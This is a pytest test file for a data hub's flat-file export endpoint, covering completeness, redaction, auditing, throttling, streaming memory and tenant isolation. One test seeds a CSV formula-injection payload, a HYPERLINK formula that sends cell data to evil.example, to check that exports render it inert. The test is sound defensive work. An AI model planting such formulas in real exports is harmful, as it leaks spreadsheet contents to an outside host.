"""Flat-file exports: the same pipeline as /graphql, page after page, streamed."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
import tracemalloc
from collections import Counter
from pathlib import Path

import httpx
import pytest
from sqlalchemy import select
from sqlmodel import col

from hub.settings import Settings
from hub.store import seed
from hub.store.engine import create_engine
from hub.store.migrate import upgrade
from hub.store.tables import AuditEventRow
from tests.conftest import ROOT, MakeToken, running_app
from tests.helpers import codes, gql
from tests.test_cost_budget import _policies_with_tight_tier

COLUMNS = [
    "id",
    "handle",
    "country",
    "categories",
    "contacts.role",
    "contacts.fullName",
    "contacts.email",
]


def _policies_with_roomy_tier(tmp_path: Path) -> Path:
    """The shipped policies, plus client `bulk`: a budget no export here can empty."""
    folder = tmp_path / "policies"
    shutil.copytree(ROOT / "policies", folder)
    cost = folder / "cost.yaml"
    text = cost.read_text().replace(
        "tiers:\n",
        "tiers:\n  bulk:\n    max_query_cost: 100000\n    bucket_size: 100000000\n"
        "    restore_rate_per_s: 100000\n",
    )
    cost.write_text(text.replace("clients:\n", "clients:\n  bulk: bulk\n"))
    return folder


def rows(response: httpx.Response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.text)))


async def _export(
    client: httpx.AsyncClient, name: str, token: str, **params: str
) -> httpx.Response:
    return await client.get(
        f"/export/{name}", params=params, headers={"Authorization": f"Bearer {token}"}
    )


async def test_a_csv_export_has_every_row_once_with_the_columns_of_its_selection(
    settings: Settings, make_token: MakeToken
) -> None:
    manager = make_token()
    async with running_app(settings) as (_app, client):
        response = await _export(client, "InfluencerContacts.csv", manager)
        _, counted = await gql(client, "{ influencers { totalCount } }", token=manager)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == (
        'attachment; filename="InfluencerContacts.csv"'
    )
    assert response.text.splitlines()[0].split(",") == COLUMNS
    exported = rows(response)
    total = counted["data"]["influencers"]["totalCount"]
    assert total > 100  # more than one page of 100
    assert len(exported) == total == len({row["id"] for row in exported})
    assert all(row["handle"] for row in exported)
    assert any(";" in row["categories"] for row in exported)  # a list of leaves, joined


async def test_personal_values_are_decided_per_value_and_audited_once_each(
    sqlite_settings: Settings, make_token: MakeToken
) -> None:
    reporter = make_token(purpose="analytics", subject="bi-export")
    async with running_app(sqlite_settings) as (app, client):
        response = await _export(client, "InfluencerContacts.csv", reporter)
        await app.state.hub.audit.flush()
        async with app.state.hub.store.sessions() as session:
            events = (
                await session.scalars(
                    select(AuditEventRow).where(col(AuditEventRow.principal) == "bi-export")
                )
            ).all()
    exported = rows(response)
    emails = [e for row in exported for e in row["contacts.email"].split(";") if e]
    names = [n for row in exported for n in row["contacts.fullName"].split(";") if n]
    decided = Counter(event.coordinate for event in events)
    # Every contact's email and name was decided once, and shown only as far as the policy
    # allows for analytics: without consent, both redacted.
    contacts = sum(len([r for r in row["contacts.role"].split(";") if r]) for row in exported)
    assert contacts > 0
    assert decided["Contact.email"] == decided["Contact.fullName"] == contacts
    allowed = Counter(event.coordinate for event in events if event.decision == "allowed")
    assert 0 < len(names) == allowed["Contact.fullName"] < contacts  # redacted without consent
    assert 0 < len(emails) == allowed["Contact.email"] < contacts


async def test_ndjson_rows_are_json_objects_keyed_by_column(
    sqlite_client: httpx.AsyncClient, make_token: MakeToken
) -> None:
    response = await _export(
        sqlite_client, "InfluencerContacts.ndjson", make_token(), variables="{}"
    )
    assert response.headers["content-type"].startswith("application/x-ndjson")
    lines = [json.loads(line) for line in response.text.splitlines()]
    assert len(lines) > 100
    assert all(list(line) == COLUMNS for line in lines)
    assert all(isinstance(line["id"], str) for line in lines)


@pytest.mark.parametrize(
    ("path", "params", "token", "status", "code"),
    [
        ("InfluencerContacts.csv", {}, "not.a.token", 401, "UNAUTHENTICATED"),
        ("InfluencerContacts.xlsx", {}, None, 404, "NOT_FOUND"),
        ("NoSuchDocument.csv", {}, None, 404, "NOT_FOUND"),
        ("a" * 64 + ".csv", {}, None, 404, "NOT_FOUND"),
        ("InfluencerContacts.csv", {"variables": "[1"}, None, 400, "BAD_REQUEST"),
        ("InfluencerContacts.csv", {"variables": '{"first": 1000}'}, None, 200, "BAD_USER_INPUT"),
    ],
)
async def test_a_refusal_before_the_first_row_is_a_coded_json_error(
    sqlite_client: httpx.AsyncClient,
    make_token: MakeToken,
    path: str,
    params: dict[str, str],
    token: str | None,
    status: int,
    code: str,
) -> None:
    response = await _export(sqlite_client, path, token or make_token(), **params)
    assert response.status_code == status
    assert response.headers["content-type"].startswith("application/json")
    assert codes(response.json()) == [code]


async def test_a_failure_after_the_first_rows_ends_the_file_with_a_line_that_says_so(
    tmp_path: Path, sqlite_settings: Settings, make_token: MakeToken
) -> None:
    settings = sqlite_settings.model_copy(
        update={"policies_dir": _policies_with_tight_tier(tmp_path)}
    )
    async with running_app(settings) as (_app, client):
        # 100 points: the first page of 10 influencers costs 21 and their contacts; the
        # budget is gone after a few pages, and refills far too slowly to wait for.
        response = await _export(
            client,
            "InfluencerContacts.csv",
            make_token(client_id="tight"),
            variables='{"first": 10}',
        )
    lines = response.text.splitlines()
    assert response.status_code == 200
    assert len(rows(response)) >= 10
    assert lines[-1].startswith("# export stopped: THROTTLED: ")


async def test_ten_thousand_rows_stream_at_flat_memory(
    tmp_path: Path, make_token: MakeToken, sqlite_settings: Settings
) -> None:
    settings = sqlite_settings.model_copy(
        update={
            "database_url": f"sqlite+aiosqlite:///{tmp_path}/big.db",
            "demo": False,
            "policies_dir": _policies_with_roomy_tier(tmp_path),
        }
    )
    engine = create_engine(settings)
    await upgrade(engine)
    await seed.seed(engine, seed.SeedPlan(influencers=10_000, campaigns=10, tenants=1, seed=7))
    await engine.dispose()
    reporter = make_token(purpose="analytics", client_id="bulk")
    async with running_app(settings.model_copy(update={"demo": True})) as (_app, client):
        tracemalloc.start()
        try:
            count = 0
            async with client.stream(
                "GET",
                "/export/InfluencerContacts.csv",
                headers={"Authorization": f"Bearer {reporter}"},
            ) as response:
                async for _line in response.aiter_lines():
                    count += 1
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
    assert count == 10_001  # the header and every influencer
    # About 6 MB: a page at a time, and the 1 MB file the in-process client keeps. Holding
    # every page's answer until the end would be 13 MB.
    assert peak < 8_000_000


async def _registered(client: httpx.AsyncClient, query: str, token: str) -> str:
    """`query` registered as an automatically persisted query; its hash."""
    digest = hashlib.sha256(query.encode()).hexdigest()
    extensions = {"persistedQuery": {"version": 1, "sha256Hash": digest}}
    await client.post(
        "/graphql",
        json={"query": query, "extensions": extensions},
        headers={"Authorization": f"Bearer {token}"},
    )
    return digest


async def test_text_a_spreadsheet_would_run_is_written_inert(
    sqlite_client: httpx.AsyncClient, make_token: MakeToken
) -> None:
    manager = make_token()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for name in (formula, "+1 (555) 0100", "@SUM(A1)", "-2+3"):
        await gql(
            sqlite_client,
            'mutation ($n: String!) { createCampaign(input: {name: $n, brand: "b"}) { id } }',
            token=manager,
            variables={"n": name},
        )
    query = "query Names { campaigns(first: 100) { edges { node { name } } } }"
    digest = await _registered(sqlite_client, query, manager)
    response = await _export(sqlite_client, f"{digest}.csv", manager)
    names = [row["name"] for row in rows(response)]
    assert f"'{formula}" in names and "'+1 (555) 0100" in names and "'@SUM(A1)" in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)


async def test_an_export_whose_cursor_does_not_move_ends_with_a_line_that_says_so(
    sqlite_client: httpx.AsyncClient, make_token: MakeToken
) -> None:
    manager = make_token()
    query = (
        'query Loop($after: ID = "inf_x") { influencers(first: 1) { edges { node { id } } '
        "pageInfo { hasNextPage endCursor } } other: influencer(id: $after) { id } }"
    )
    digest = await _registered(sqlite_client, query, manager)
    response = await _export(sqlite_client, f"{digest}.csv", manager)
    lines = response.text.splitlines()
    assert len(lines) == 4  # the header, the page, the same page once more, and the end
    assert lines[1] == lines[2]
    assert lines[-1].startswith("# export stopped: BAD_REQUEST: The next page's cursor")


async def test_an_export_of_a_document_over_the_callers_limits_is_refused_not_failed(
    sqlite_client: httpx.AsyncClient, make_token: MakeToken
) -> None:
    analyst = make_token(roles=["analyst"])
    query = "query Big { " + " ".join(f"a{i}: __typename" for i in range(1200)) + " }"
    digest = await _registered(sqlite_client, query, analyst)  # within the analyst's limits
    response = await _export(sqlite_client, f"{digest}.csv", make_token())
    assert response.status_code == 400
    assert codes(response.json()) == ["QUERY_TOO_COMPLEX"]


async def test_a_client_of_registered_operations_only_exports_registered_ones(
    sqlite_client: httpx.AsyncClient, make_token: MakeToken
) -> None:
    manager = make_token()
    digest = await _registered(sqlite_client, "{ campaigns { edges { node { id } } } }", manager)
    partner = make_token(client_id="partner-portal")
    refused = await _export(sqlite_client, f"{digest}.csv", partner)
    allowed = await _export(sqlite_client, "InfluencerContacts.csv", partner)
    assert codes(refused.json()) == ["PERSISTED_QUERY_NOT_ALLOWED"]
    assert allowed.status_code == 200 and len(rows(allowed)) > 100


async def test_an_export_keeps_to_the_callers_fields_and_tenant(
    sqlite_client: httpx.AsyncClient, make_token: MakeToken
) -> None:
    acme = rows(await _export(sqlite_client, "InfluencerContacts.csv", make_token()))
    globex = rows(
        await _export(sqlite_client, "InfluencerContacts.csv", make_token(tenant="globex"))
    )
    # Influencer.contacts is denied to analysts: refused before any row, as on /graphql.
    analyst = await _export(sqlite_client, "InfluencerContacts.csv", make_token(roles=["analyst"]))

    def shown(exported: list[dict[str, str]]) -> set[str]:
        """The emails shown whole (masked ones look alike across tenants)."""
        found = {e for row in exported for e in row["contacts.email"].split(";")}
        return {e for e in found if e and "***" not in e}

    acme_emails, globex_emails = shown(acme), shown(globex)
    assert acme_emails and globex_emails
    assert acme_emails.isdisjoint(globex_emails)  # each tenant sees its own contacts only
    assert all(".acme" in email for email in acme_emails)
    assert analyst.headers["content-type"].startswith("application/json")
    assert codes(analyst.json()) == ["FORBIDDEN"]
